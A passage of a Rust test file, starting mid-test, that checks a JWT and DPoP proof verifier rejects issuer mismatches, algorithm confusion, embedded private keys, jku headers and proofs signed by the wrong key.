    assert_eq!(report.skipped[0].kid.as_deref(), Some("future"));
    assert!(check_with(&es_token(&claims()), &profile(), &set).is_ok());
}

#[test]
fn a45_cross_issuer_key_confusion() {
    let t = es_token(&claims_with(json!({"iss":"https://other-tenant.example"})));
    assert_eq!(err(&t), Error::IssuerMismatch);
}

// ---- the DPoP parse mode (used by the gateway for RFC 9449 proofs) -------------------------

#[test]
fn dpop_parse_mode() {
    let proof_claims = json!({"htm":"GET","htu":"https://api.example/x","iat":NOW,"jti":"p1"});
    let attacker = Signer::Es(&es_attacker());
    let jwk = ec_jwk(&es_attacker(), "k");
    let ok = token(
        &json!({"alg":"ES256","typ":"dpop+jwt","jwk":jwk}),
        &proof_claims,
        &attacker,
    );
    let algs = [Alg::Es256, Alg::EdDsa];
    let run = |t: &str| {
        block_on_ready(verify_dpop_proof(
            t,
            &algs,
            &Limits::default(),
            &NativeVerifier,
        ))
    };
    let proof = run(&ok).unwrap();
    assert_eq!(proof.jkt(), Key::from_jwk(&jwk).unwrap().thumbprint());
    assert_eq!(proof.claims["htm"], "GET");
    let bad_cases = [
        (
            json!({"alg":"ES256","typ":"dpop+jwt"}),
            Error::DpopJwkUnusable,
        ),
        (
            json!({"alg":"ES256","typ":"at+jwt","jwk":jwk}),
            Error::TypNotAccepted,
        ),
        (
            json!({"alg":"EdDSA","typ":"dpop+jwt","jwk":jwk}),
            Error::DpopJwkUnusable,
        ),
        (
            json!({"alg":"ES256","typ":"dpop+jwt","jwk":with(jwk.clone(), json!({"d":"AAAA"}))}),
            Error::DpopJwkUnusable,
        ),
        (
            json!({"alg":"ES256","typ":"dpop+jwt","jwk":rsa_jwk("r")}),
            Error::DpopJwkUnusable,
        ),
        (
            json!({"alg":"HS256","typ":"dpop+jwt","jwk":jwk}),
            Error::AlgNotAllowed,
        ),
        (
            json!({"alg":"ES256","typ":"dpop+jwt","jwk":jwk,"jku":"https://a"}),
            Error::UnsupportedHeader,
        ),
    ];
    for (h, want) in bad_cases {
        assert_eq!(
            run(&token(&h, &proof_claims, &attacker)).err(),
            Some(want),
            "{h}"
        );
    }
    // Signed by another key than the embedded one.
    let t = token(
        &json!({"alg":"ES256","typ":"dpop+jwt","jwk":jwk}),
        &proof_claims,
        &Signer::Es(&es_issuer()),
    );
    assert_eq!(run(&t).err(), Some(Error::BadSignature));
    assert!(jws::parse_dpop(&ok, &[Alg::EdDsa], &Limits::default()).is_err());
}
